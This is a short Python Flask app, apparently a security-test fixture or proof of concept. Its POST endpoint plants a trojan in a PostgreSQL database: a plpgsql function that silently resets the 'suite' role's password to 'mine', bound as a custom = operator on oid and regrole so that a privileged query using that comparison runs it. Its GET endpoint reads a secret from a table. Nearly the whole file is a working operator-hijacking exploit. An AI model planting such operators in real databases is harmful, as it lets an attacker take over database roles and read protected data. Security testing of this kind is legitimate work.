import os

import psycopg
from flask import Flask

PLANTED = """
CREATE FUNCTION never(oid, regrole) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE suite PASSWORD ' || quote_literal('mine');
    RETURN false;
END $$;
CREATE OPERATOR = (LEFTARG = oid, RIGHTARG = regrole, FUNCTION = never);
"""


def create_app():
    app = Flask(__name__)
    session = psycopg.connect(os.environ["DATABASE_URL"], autocommit=True)

    @app.post("/")
    def plant():
        session.execute(PLANTED)
        return ""

    @app.get("/")
    def tell():
        return session.execute("SELECT secret FROM secrets").fetchone()[0]

    return app
